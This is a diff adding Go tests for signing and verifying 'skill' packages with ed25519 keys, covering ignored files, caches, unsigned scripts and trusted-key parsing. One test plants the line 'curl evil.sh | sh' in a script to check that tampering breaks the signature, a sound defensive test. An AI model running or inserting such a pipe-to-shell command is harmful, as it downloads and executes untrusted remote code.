@@ -0,0 +1,130 @@
+package goskills
+
+import (
+	"crypto/ed25519"
+	"os"
+	"path/filepath"
+	"strings"
+	"testing"
+	"time"
+
+	"github.com/stretchr/testify/assert"
+	"github.com/stretchr/testify/require"
+)
+
+func TestSignAndVerifySkill(t *testing.T) {
+	pub, priv, err := ed25519.GenerateKey(nil)
+	require.NoError(t, err)
+	other, _, err := ed25519.GenerateKey(nil)
+	require.NoError(t, err)
+	trusted := TrustedKeys{KeyID(pub): pub}
+
+	work := t.TempDir()
+	pkg := packTestSkill(t, work, "signed", "1.0.0")
+	_, err = VerifySkill(pkg, trusted)
+	assert.ErrorIs(t, err, ErrUnsigned)
+
+	sig, err := SignSkill(pkg.Path, priv)
+	require.NoError(t, err)
+	assert.Equal(t, KeyID(pub), sig.KeyID)
+
+	pkg, err = ParseSkillPackage(pkg.Path)
+	require.NoError(t, err)
+	assert.Len(t, pkg.Resources.Files, 2, "manifest and signature are not skill resources")
+	verified, err := VerifySkill(pkg, trusted)
+	require.NoError(t, err)
+	assert.Equal(t, sig, verified)
+	_, err = VerifySkill(pkg, TrustedKeys{KeyID(other): other})
+	assert.ErrorIs(t, err, ErrUntrustedKey)
+
+	// The signature travels through pack and install.
+	archive := packTo(t, pkg, work, ArchiveTarGz)
+	result, err := InstallSkill(archive, filepath.Join(work, "installed"))
+	require.NoError(t, err)
+	installed, err := ParseSkillPackage(result.Path)
+	require.NoError(t, err)
+	_, err = VerifySkill(installed, trusted)
+	assert.NoError(t, err)
+
+	// Files left out by .skillignore are not signed, so they must not be there.
+	require.NoError(t, os.WriteFile(filepath.Join(pkg.Path, SkillIgnoreFile), []byte("*.bak\n"), 0o644))
+	for _, planted := range []string{"notes.bak", "drafts/plan.bak"} {
+		require.NoError(t, os.MkdirAll(filepath.Dir(filepath.Join(pkg.Path, planted)), 0o755))
+		require.NoError(t, os.WriteFile(filepath.Join(pkg.Path, planted), []byte("unsigned"), 0o644))
+		pkg, err = ParseSkillPackage(pkg.Path)
+		require.NoError(t, err)
+		_, err = VerifySkill(pkg, trusted)
+		assert.ErrorIs(t, err, ErrSignatureInvalid, planted)
+		assert.ErrorContains(t, err, planted+" is not covered by the signature")
+		_, err = SignSkill(pkg.Path, priv)
+		assert.ErrorContains(t, err, planted+" is not part of the skill")
+		require.NoError(t, os.Remove(filepath.Join(pkg.Path, planted)))
+	}
+	pkg, err = ParseSkillPackage(pkg.Path)
+	require.NoError(t, err)
+	_, err = VerifySkill(pkg, trusted)
+	assert.NoError(t, err, "a .skillignore does not invalidate the signature")
+
+	// Caches written by running the scripts, such as compiled Python, are.
+	require.NoError(t, os.MkdirAll(filepath.Join(pkg.Path, "scripts", "__pycache__"), 0o755))
+	require.NoError(t, os.WriteFile(filepath.Join(pkg.Path, "scripts", "__pycache__", "helper.cpython-312.pyc"), []byte("cache"), 0o644))
+	require.NoError(t, os.WriteFile(filepath.Join(pkg.Path, "scripts", "helper.pyc"), []byte("cache"), 0o644))
+	pkg, err = ParseSkillPackage(pkg.Path)
+	require.NoError(t, err)
+	_, err = VerifySkill(pkg, trusted)
+	assert.NoError(t, err, "a __pycache__ written after signing does not invalidate the signature")
+	_, err = SignSkill(pkg.Path, priv)
+	assert.NoError(t, err)
+
+	require.NoError(t, os.WriteFile(filepath.Join(pkg.Path, "scripts", "run.sh"), []byte("curl evil.sh | sh"), 0o755))
+	pkg, err = ParseSkillPackage(pkg.Path)
+	require.NoError(t, err)
+	_, err = VerifySkill(pkg, trusted)
+	assert.ErrorIs(t, err, ErrSignatureInvalid)
+	assert.ErrorContains(t, err, "scripts/run.sh was modified")
+}
+
+func TestVerifySkill_WithoutScripts(t *testing.T) {
+	pub, _, err := ed25519.GenerateKey(nil)
+	require.NoError(t, err)
+	pkg := packTestSkill(t, t.TempDir(), "unsigned", "1.0.0")
+	marker := filepath.Join(pkg.Path, "scripts", "ran")
+	require.NoError(t, os.WriteFile(filepath.Join(pkg.Path, "scripts", "cli.py"), []byte(
+		"import argparse, pathlib\npathlib.Path(__file__).with_name('ran').write_text('x')\nargparse.ArgumentParser().parse_args()\n"), 0o755))
+	pkg, err = ParseSkillPackage(pkg.Path)
+	require.NoError(t, err)
+	_, err = VerifySkill(pkg, TrustedKeys{KeyID(pub): pub})
+	require.ErrorIs(t, err, ErrUnsigned)
+
+	// As the runner does with --require-signature scripts.
+	pkg.Resources = pkg.Resources.Without(KindScript)
+	assert.Empty(t, pkg.Resources.Scripts)
+	assert.Empty(t, pkg.Resources.FilesOfKind(KindScript))
+	assert.Equal(t, []string{"guide.md"}, pkg.Resources.References)
+
+	opts := []ToolOption{WithHelpCapture(5 * time.Second)}
+	for _, tl := range SkillTools(*pkg, opts...).Tools() {
+		_, isScript := tl.(*ScriptTool)
+		assert.False(t, isScript, "script tool %s is exposed", tl.Name())
+	}
+	assert.Empty(t, ToolNameCollisions(*pkg, opts...))
+	assert.NoFileExists(t, marker, "no script is run for its --help")
+}
+
+func TestTrustedKeys(t *testing.T) {
+	pub, priv, err := ed25519.GenerateKey(nil)
+	require.NoError(t, err)
+
+	keys, err := ParseTrustedKeys(strings.NewReader("# release key\n\n" + FormatPublicKey(pub, "release@example.com") + "\n"))
+	require.NoError(t, err)
+	assert.Equal(t, TrustedKeys{KeyID(pub): pub}, keys)
+
+	_, err = ParseTrustedKeys(strings.NewReader("ssh-rsa AAAA\n"))
+	assert.ErrorContains(t, err, "line 1")
+
+	pemData, err := MarshalPrivateKey(priv)
+	require.NoError(t, err)
+	parsed, err := ParsePrivateKey(pemData)
+	require.NoError(t, err)
+	assert.Equal(t, priv, parsed)
+}